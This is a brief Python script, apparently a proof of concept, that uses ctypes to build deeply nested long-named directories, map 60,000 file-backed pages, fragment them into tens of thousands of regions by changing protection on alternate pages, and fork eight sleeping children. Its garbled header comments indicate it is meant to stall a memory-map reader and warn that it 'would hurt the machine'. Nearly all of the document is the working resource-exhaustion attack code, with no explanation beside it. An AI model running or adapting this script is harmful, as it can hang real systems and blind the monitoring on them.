# tries: keep the one who counts memory reading, by tables of sixty thousand mappings
# look: yes
# not run elsewhere: it would hurt the machine
# %%
import ctypes
import os
import time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for _ in range(16):
    os.mkdir("d" * 240)
    os.chdir("d" * 240)
at = libc.mmap(None, 60_000 * 4096, 1, 2, os.open("f", os.O_RDWR | os.O_CREAT), 0)
for i in range(0, 60_000, 2):
    libc.mprotect(at + i * 4096, 4096, 3)
for _ in range(8):
    if os.fork() == 0:
        time.sleep(100)
